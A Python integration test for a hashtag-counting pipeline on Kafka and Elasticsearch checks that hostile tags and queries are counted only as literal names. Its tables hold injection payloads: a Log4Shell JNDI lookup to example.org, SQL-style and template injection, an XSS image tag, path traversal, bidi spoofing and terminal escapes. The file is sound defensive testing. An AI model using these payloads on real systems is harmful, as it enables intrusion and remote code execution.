"""Hostile hashtags on real Kafka and Elasticsearch: each is counted under its own name, and is nothing but a name."""

import json
from collections.abc import Iterable
from typing import Any, Final

import pytest
from click.testing import CliRunner

from hashtide.elasticsearch.client import connection
from hashtide.elasticsearch.session import session
from operations.cli.main import cli
from tests.integration.pipeline import PATTERN, Pipeline

LISTED: Final[dict[str, str | None]] = {
    # What is a query in Elasticsearch's query strings, Kibana's, or SQL.
    "*": "*",
    "a OR b": "a or b",
    "hashtag:metoo": "hashtag:metoo",
    'x" OR "1"="1': 'x" or "1"="1',
    "{!x}": "{!x}",
    '{"match_all":{}}': '{"match_all":{}}',
    "[1 TO 9]": "[1 to 9]",
    "/.*/": "/.*/",
    "back\\slash": "back\\slash",
    "~-+&&||!^?": "~-+&&||!^?",
    # What would be a field, an id, a script, a path or a template where a value becomes a name.
    "a.b.c": "a.b.c",
    ".": ".",
    "_id": "_id",
    "_source": "_source",
    "constructor": "constructor",
    "__proto__": "__proto__",
    "ctx._source.count=9": "ctx._source.count=9",
    "../../_all": "../../_all",
    "%00": "%00",
    "${jndi:ldap://example.org/x}": "${jndi:ldap://example.org/x}",
    "{{7*7}}": "{{7*7}}",
    "<img src=x onerror=alert(1)>": "<img src=x onerror=alert(1)>",
    # What Elasticsearch would take for a date, a number or nothing, if it could choose a type.
    "2017-10-15": "2017-10-15",
    "2017-10-15T20:30:00Z": "2017-10-15t20:30:00z",
    "1e400": "1e400",
    "-0": "-0",
    "NaN": "nan",
    "null": "null",
    "TRUE": "true",
    # Too long to be a tag, as written or once it is folded; and the longest that is one.
    "y" * 10_000: None,
    "y" * 280: None,
    "y" * 279: "y" * 279,
    "\ufdfa" * 16: None,  # one character becomes 18 (NFKC): 288
    "𐐀" * 279: "𐐨" * 279,  # 1,116 bytes
    # What nobody sees is no part of a tag.
    "safe\u202egnp.exe": "safegnp.exe",
    "\u202e\u2066OneToo": "onetoo",
    "one\u200btoo": "onetoo",
    "One\u200dToo": "onetoo",
    "\ufeffo\u00adnetoo\U000e0041": "onetoo",
    "\u200b\u2060\ufe0f": None,
    # ... but joiners that shape letters are: Persian's "I want".
    "می\u200cخواهم": "می\u200cخواهم",
    # The same letters in other code points, and marks without end.
    "e\u0301te\u0301": "été",
    "ＷｉｄｅＴａｇ": "widetag",
    "I\u0307stanbul": "istanbul",
    "z" + "\u0335" * 200: "z" + "\u0335" * 200,
    "\u0335": "\u0335",
    # Controls, and halves of surrogate pairs, which no text can have.
    "nul\x00nul": "nul\x00nul",
    "\x1b[2J\x9b31m": "\x1b[2j\x9b31m",
    "line\nfeed": "line\nfeed",
    "\ud83d": "\ufffd",
    "half\udc00": "half\ufffd",
    "#＃": None,
    " \t ": None,
}
"""Tags as a platform's list of them may have them, each in a post of its own: what it counts under, if it does."""

WRITTEN: Final[dict[str, list[str]]] = {
    '#w.dot #w:colon #w*star #w{brace #w"quote': ["w"],
    "#_ #1984 #2017-10-15 #. #*": [],
    "#w\u202ertl #w\u200bzero #w\u200djoiner": ["w", "wjoiner"],
    "#w\u0335\u0335mark #w\x00nul": ["w\u0335\u0335mark", "w"],
    "http://example.org/#w #" + "y" * 10_000: [],
    "#" * 10_000 + "w2": ["w2"],
}
"""Texts with tags to be found in them (twitter-text's rules), and which are."""

QUERIES: Final = (
    "*", "meto*", "metoo OR none", "campaign:metoo", 'metoo" OR "', '{"match_all":{}}', "_all", "/.*/", "metoo,none",
    "<metoo>", "METOO", " metoo", "", "m" * 10_000, "\ud83d",
)  # fmt: skip


def line(number: int, **fields: Any) -> bytes:
    post = {"id": str(number), "platform": "x", "created_at": "2017-10-15T20:30:05Z", "lang": "en", "text": "me too"}
    return json.dumps(post | fields).encode() + b"\n"


def lines(first: int) -> Iterable[bytes]:
    for number, tag in enumerate(LISTED, first):
        yield line(number, hashtags=[tag])
    for number, text in enumerate(WRITTEN, first + len(LISTED)):
        yield line(number, text=text)


def mappings(pipeline: Pipeline) -> dict[str, Any]:
    with session(connection(pipeline.settings)) as client:
        return dict(client.indices.get_mapping(index=PATTERN, ignore_unavailable=True).body)


@pytest.fixture
def counted(pipeline: Pipeline) -> Pipeline:
    """A pipeline that has counted them all, after a post of the day that is as good as any."""
    with pipeline.worker():
        pipeline.json("produce", "file", "-", stdin=line(0, hashtags=["MeToo"]))
        pipeline.settle(1)
        before = mappings(pipeline)
        assert sorted(index.partition("-20")[0] for index in before) == [
            "hashtag-volume", "ingest-gaps", "posts", "reply-volume"
        ]  # fmt: skip
        posts = list(lines(1))
        summary = pipeline.json("produce", "file", "-", stdin=b"".join(posts))
        assert (summary["sent"], summary["dead"]) == (len(posts), 0)
        pipeline.settle(1 + len(posts))
    assert mappings(pipeline) == before
    return pipeline


def test_a_hostile_hashtag_is_counted_under_its_name_and_a_hostile_question_finds_nothing(counted: Pipeline) -> None:
    expected = {"metoo": 1}
    for tag in [*LISTED.values(), *(tag for tags in WRITTEN.values() for tag in tags)]:
        if tag is not None:
            expected[tag] = expected.get(tag, 0) + 1
    assert (expected["onetoo"], expected["w"]) == (4, 3)
    found = counted.json("counts", "--by", "hashtag", "--json")
    assert {row["key"]: row["count"] for row in found["rows"]} == expected
    assert found["total"] == sum(expected.values())
    assert counted.json("counts", "--json")["total"] == 1 + len(LISTED) + len(WRITTEN)
    assert counted.dead_letters() == {}

    verdict = counted.json("verify", "--json")
    assert (verdict["posts"], verdict["differences"]) == (1 + len(LISTED) + len(WRITTEN), [])

    terminal = counted.hashtide("counts", "--by", "hashtag").stdout.decode()
    assert "\x1b" not in terminal
    assert "\x9b" not in terminal
    assert "\\x1b[2j\\x9b31m" in terminal

    assert counted.json("counts", "--campaign", "metoo", "--json")["total"] == 1
    for query in QUERIES:
        answer = asked(counted, "counts", "--campaign", query, "--json")
        assert json.loads(answer) == {"total": 0, "rows": [{"key": None, "start": None, "count": 0}]}, query
    for query in QUERIES[:3]:
        shown = asked(counted, "watch", "--terminal", "--once", "--campaign", query)
        assert shown.endswith("\nNo posts of this campaign on this platform are counted.\n"), query


def asked(pipeline: Pipeline, *words: str) -> str:
    """What a command prints, in this process: it must end well."""
    done = CliRunner().invoke(cli, words, env=pipeline.environment, catch_exceptions=False)
    assert done.exit_code == 0, done.output
    return done.stdout
